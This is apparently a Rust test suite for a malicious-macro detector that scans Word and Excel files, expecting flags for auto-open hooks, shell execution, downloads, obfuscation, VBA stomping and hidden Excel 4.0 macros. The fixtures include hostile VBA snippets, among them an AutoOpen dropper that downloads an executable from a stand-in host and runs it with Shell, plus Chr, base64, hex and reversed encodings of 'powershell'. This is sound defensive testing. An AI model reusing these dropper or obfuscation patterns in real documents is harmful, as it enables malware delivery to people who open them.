//! Macros: hit, near miss, hostile.

use super::build::{excel, package, project, project_with, word, word_with_macro};
use super::{Row, check, row};
use crate::message::document::old::excel::book_of;
use crate::message::document::ole::compound_of;
use crate::message::document::vba::pack;

fn source(what: &'static str, source: &str, remarks: &'static str) -> Row {
    row(what, "a.docm", word_with_macro(source), remarks, "")
}

#[test]
fn what_visual_basic_does() {
    check(vec![
        source(
            "plain",
            "Sub Sums()\r\nx = 1 + 2\r\nEnd Sub",
            "MACRO_PRESENT !MACRO_AUTO_OPEN !MACRO_RUNS !MACRO_OBFUSCATED !MACRO_DOWNLOAD !MACRO_WRITES !MACRO_STOMPED",
        ),
        source("no code", "", "!MACRO_PRESENT !MACRO_STOMPED"),
        source(
            "auto open",
            "Sub AutoOpen()\r\nx = 1\r\nEnd Sub",
            "MACRO_AUTO_OPEN !MACRO_SUSPICIOUS",
        ),
        source("document open", "Private Sub Document_Open()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
        source("workbook open", "Private Sub Workbook_Open()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
        source("active x", "Private Sub InkEdit1_GotFocus()\r\nEnd Sub", "MACRO_AUTO_OPEN"),
        source(
            "a name in a comment",
            "Sub A()\r\n' AutoOpen calls Shell\r\nEnd Sub",
            "!MACRO_AUTO_OPEN !MACRO_RUNS",
        ),
        source("a call of that name", "Sub A()\r\nAutoOpenAll\r\nEnd Sub", "!MACRO_AUTO_OPEN"),
        source("shell", "Sub A()\r\nShell \"calc\"\r\nEnd Sub", "MACRO_RUNS !MACRO_SUSPICIOUS"),
        source(
            "shell object",
            "Sub A()\r\nSet s = CreateObject(\"WScript.Shell\")\r\nEnd Sub",
            "MACRO_RUNS",
        ),
        source(
            "an honest object",
            "Sub A()\r\nSet s = CreateObject(\"Scripting.Dictionary\")\r\nEnd Sub",
            "!MACRO_RUNS !MACRO_OBFUSCATED",
        ),
        source(
            "wmi",
            "Sub A()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create x\r\nEnd Sub",
            "MACRO_RUNS",
        ),
        source(
            "download",
            "Private Declare Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" ()",
            "MACRO_DOWNLOAD",
        ),
        source(
            "xmlhttp",
            "Sub A()\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nEnd Sub",
            "MACRO_DOWNLOAD",
        ),
        source("winhttp", "Sub A()\r\nDim x As New WinHttpRequest\r\nEnd Sub", "MACRO_DOWNLOAD"),
        source("writes", "Sub A()\r\nOpen f For Output As #1\r\nEnd Sub", "MACRO_WRITES"),
        source("reads", "Sub A()\r\nOpen f For Input As #1\r\nEnd Sub", "!MACRO_WRITES"),
        source(
            "stream",
            "Sub A()\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile f, 2\r\nEnd Sub",
            "MACRO_WRITES",
        ),
        source(
            "chr chain",
            "Sub A()\r\nx = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "line ends",
            "Sub A()\r\nx = \"a\" & Chr(13) & Chr(10)\r\nEnd Sub",
            "!MACRO_OBFUSCATED",
        ),
        source(
            "reversed",
            "Sub A()\r\nx = StrReverse(\"llehSrewop\")\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "split",
            "Sub A()\r\nx = \"pow\" & \"ersh\" & \"ell\"\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "split over variables",
            "Sub A()\r\np = \"pow\"\r\np = p & \"ersh\"\r\np = p & \"ell\"\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "an honest join",
            "Sub A()\r\nx = \"Dear \" & \"reader\"\r\nEnd Sub",
            "!MACRO_OBFUSCATED",
        ),
        source(
            "base64",
            "Sub A()\r\nx = \"cG93ZXJzaGVsbCAtbm9w\"\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "hex",
            "Sub A()\r\nx = \"706f7765727368656c6c\"\r\nEnd Sub",
            "MACRO_OBFUSCATED MACRO_RUNS",
        ),
        source(
            "xor",
            "Sub A()\r\nFor i = 1 To 9\r\nx = x & Chr(Asc(Mid(s, i, 1)) Xor 7)\r\nNext\r\nEnd Sub",
            "MACRO_OBFUSCATED",
        ),
        source(
            "random names",
            "Sub A()\r\nDim qwrtzpsdfg, xcvbnmkljh, bgtvfrcdxs, plmkzjnhbg, wsxqaztgbn, qgzhtrfkvb, zkxjhgtrbv, mnbvcxzlkj\r\nEnd Sub",
            "MACRO_OBFUSCATED",
        ),
        source(
            "german names",
            "Sub A()\r\nDim Geschwindigkeit, Schlussrechnung, Angstschweiss, Herbststurm, Rechnungsbetrag, Kundennummer, Lieferschein, Buchungstext\r\nEnd Sub",
            "!MACRO_OBFUSCATED",
        ),
        source(
            "dropper",
            "Sub AutoOpen()\r\nURLDownloadToFile 0, \"http://a.test/x.exe\", f, 0, 0\r\nShell f\r\nEnd Sub",
            "MACRO_DROPPER !MACRO_SUSPICIOUS",
        ),
        source(
            "suspicious",
            "Sub Document_Open()\r\nShell \"calc.exe\"\r\nEnd Sub",
            "MACRO_SUSPICIOUS !MACRO_DROPPER",
        ),
        row(
            "source as text",
            "a.docm",
            word_with_macro("Sub A()\r\nx = \"Bitte zahlen\"\r\nEnd Sub"),
            "MACRO_PRESENT",
            "Bitte zahlen",
        ),
    ]);
}

#[test]
fn where_macros_lie() {
    let macro_source = "Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub";
    let packed = pack(format!("Attribute VB_Name = \"M\"\r\n{macro_source}").as_bytes());
    let mut compiled = vec![0; 700];
    compiled.extend_from_slice(b"\xb9\x00\x0e\x00powershell -ex\0");
    let same = "Sub B()\r\nx = \"powershell -ex\"\r\nEnd Sub";
    let without_table = compound_of(&[("/VBA/_VBA_PROJECT", b"x"), ("/VBA/M", &packed)]);
    let loose = compound_of(&[("/Other/M", &packed)]);
    let mut broken = project(&[("M", macro_source)]);
    broken[48..52].copy_from_slice(&[0xff; 4]);
    check(vec![
        row("in a project", "vbaProject.bin", project(&[("M", macro_source)]), "MACRO_PRESENT MACRO_SUSPICIOUS", "AutoOpen"),
        row("in an old document", "a.doc", project_with(&[("M", vec![1; 9], macro_source)], "Macros/VBA"), "MACRO_SUSPICIOUS", ""),
        row("in an old workbook", "a.xls", project_with(&[("M", vec![1; 9], macro_source)], "_VBA_PROJECT_CUR/VBA"), "MACRO_SUSPICIOUS", ""),
        row("under a name of its own", "a.docx", word("", &[("word/other.dat", &project(&[("M", macro_source)]))]), "MACRO_SUSPICIOUS", ""),
        row("without table", "a.doc", without_table, "MACRO_SUSPICIOUS", ""),
        row("in a loose stream", "a.doc", loose, "MACRO_SUSPICIOUS", ""),
        row("in a broken file", "a.doc", broken, "MACRO_SUSPICIOUS ARCHIVE_DAMAGED", ""),
        row("compiled only", "a.doc", project_with(&[("M", compiled.clone(), "")], "VBA"), "MACRO_STOMPED MACRO_RUNS MACRO_AUTO_OPEN", "powershell -ex"),
        row("compiled otherwise", "a.doc", project_with(&[("M", compiled.clone(), "Sub A()\r\nEnd Sub")], "VBA"), "MACRO_STOMPED", ""),
        row("compiled from its source", "a.doc", project_with(&[("M", compiled, same)], "VBA"), "!MACRO_STOMPED", ""),
        row("not compiled", "a.doc", project_with(&[("M", vec![], same)], "VBA"), "MACRO_PURGED !MACRO_STOMPED", ""),
        row("type of a document with macros", "a.docx", package(&[("[Content_Types].xml", b"<Types><Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>")]), "MACRO_TYPE_MISMATCH", ""),
        row("the same under its own name", "a.docm", package(&[("[Content_Types].xml", b"<Types><Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>")]), "!MACRO_TYPE_MISMATCH", ""),
    ]);
}

/// Records of a BIFF8 workbook with one sheet of macros.
fn book(formulas: &[&[u8]], name: &[u8]) -> Vec<u8> {
    let begin = |kind: u8| (0x0809, vec![0, 6, kind, 0, 0, 0, 0, 0]);
    let mut sheet = vec![0, 0, 0, 0, 2, 1, 2, 0];
    sheet.extend_from_slice(b"M1");
    let mut defined = vec![0x20, 0, 0, name.len() as u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    defined.extend_from_slice(name);
    let mut records =
        vec![begin(5), (0x0085, sheet), (0x0018, defined), (0x000a, vec![]), begin(0x40)];
    for formula in formulas {
        let mut data = vec![0; 20];
        data.extend_from_slice(&(formula.len() as u16).to_le_bytes());
        data.extend_from_slice(formula);
        records.push((0x0006, data));
    }
    compound_of(&[("/Workbook", &book_of(&records))])
}

#[test]
fn macros_of_excel_4() {
    let exec: &[u8] = b"\x17\x08\x00calc.exe\x42\x01\x6e\x00";
    let char_exec: &[u8] = b"\x1e\x63\x00\x41\x6f\x00\x17\x03\x00alc\x08\x42\x01\x6e\0";
    let download: &[u8] = b"\x17\x06\x00urlmon\x17\x12\x00URLDownloadToFileA\x42\x02\x96\x00";
    let sheet = |formula: &str| {
        format!(
            "<xm:macrosheet><sheetData><row><c r='A1'><f>{formula}</f></c></row></sheetData></xm:macrosheet>"
        )
    };
    let names = b"<workbook><sheets><sheet name='S' state='veryHidden'/></sheets><definedNames><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName></definedNames></workbook>";
    let plain_names = b"<workbook><definedNames><definedName name='Total'>S!$A$1</definedName></definedNames></workbook>";
    check(vec![
        row("exec", "a.xls", book(&[exec], b"\x01"), "MACRO_EXCEL4 MACRO_AUTO_OPEN MACRO_RUNS MACRO_SUSPICIOUS SHEET_VERY_HIDDEN", "EXEC(\"calc.exe\")"),
        row("built", "a.xls", book(&[char_exec], b"Print"), "MACRO_EXCEL4 MACRO_RUNS !MACRO_AUTO_OPEN", "EXEC(\"calc\")"),
        row("download", "a.xls", book(&[download, exec], b"\x01"), "MACRO_DOWNLOAD MACRO_DROPPER", ""),
        row("no formula", "a.xls", book(&[], b"\x06"), "MACRO_EXCEL4 !MACRO_RUNS !MACRO_AUTO_OPEN", ""),
        row("in a package", "a.xlsm", excel(&[("xl/workbook.xml", names), ("xl/macrosheets/sheet1.xml", sheet("EXEC(&quot;calc&quot;)").as_bytes())]), "MACRO_EXCEL4 MACRO_SUSPICIOUS SHEET_VERY_HIDDEN", ""),
        row("the same under another name", "a.xlsm", excel(&[("xl/worksheets/sheet9.xml", sheet("CALL(&quot;x&quot;)").as_bytes())]), "MACRO_EXCEL4 MACRO_RUNS", ""),
        row("written by itself", "a.xlsm", excel(&[("xl/macrosheets/sheet1.xml", sheet("FORMULA(A1&amp;A2,B1)").as_bytes())]), "MACRO_EXCEL4 MACRO_OBFUSCATED", ""),
        row("a sheet of numbers", "a.xlsx", excel(&[("xl/workbook2.xml", plain_names), ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row><c><f>SUM(A1:A2)</f><v>3</v></c></row></sheetData></worksheet>")]), "!MACRO_EXCEL4 !MACRO_RUNS !MACRO_AUTO_OPEN !SHEET_VERY_HIDDEN", ""),
        row("binary", "a.xlsb", excel(&[("xl/workbook.bin", &binary_book()), ("xl/macrosheets/sheet1.bin", &binary_sheet(b"\x17\x04\0c\0a\0l\0c\0\x42\x01\x6e\0"))]), "MACRO_EXCEL4 MACRO_AUTO_OPEN MACRO_RUNS SHEET_VERY_HIDDEN", "EXEC(\"calc\")"),
    ]);
}

fn wide(text: &str) -> Vec<u8> {
    let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    [&(text.encode_utf16().count() as u32).to_le_bytes()[..], &units].concat()
}

fn binary_book() -> Vec<u8> {
    let sheet = [&[2, 0, 0, 0, 1, 0, 0, 0][..], &wide("rId1"), &wide("Hidden")].concat();
    let name = [&[0; 9][..], &wide("_xlnm.Auto_Open"), &[0; 8]].concat();
    crate::message::document::ooxml::part_of(&[(156, sheet), (39, name)])
}

fn binary_sheet(formula: &[u8]) -> Vec<u8> {
    let mut cell = vec![0; 18];
    cell.extend_from_slice(&(formula.len() as u32).to_le_bytes());
    cell.extend_from_slice(formula);
    crate::message::document::ooxml::part_of(&[(9, cell)])
}
